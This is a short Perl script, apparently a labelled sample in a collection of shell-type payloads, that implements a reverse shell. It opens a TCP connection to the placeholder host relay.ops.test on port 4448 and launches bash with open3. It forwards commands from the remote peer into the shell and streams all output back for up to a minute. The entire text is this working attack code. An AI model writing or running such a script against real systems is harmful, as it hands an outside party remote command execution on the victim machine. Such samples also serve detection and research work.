# class: shell; possible: low medium; style: perl, open3, select by hand, the slow peer
use strict;
use warnings;
use IO::Socket::INET;
use IO::Select;
use IPC::Open3;
use Symbol 'gensym';

my $peer = IO::Socket::INET->new('relay.ops.test:4448') or die "no peer\n";
my $err = gensym;
my $pid = open3(my $to, my $from, $err, '/bin/bash', '--noprofile', '--norc');
$to->autoflush(1);
my $sel = IO::Select->new($peer, $from, $err);
my $stop = time + 60;
while (time < $stop) {
    for my $h ($sel->can_read(2)) {
        my $got = sysread $h, my $data, 8192;
        if (!$got) { $sel->remove($h); exit 0 if $h == $peer; next }
        if ($h == $peer) { print {$to} $data }
        else { syswrite $peer, $data }
    }
}
kill 'TERM', $pid;
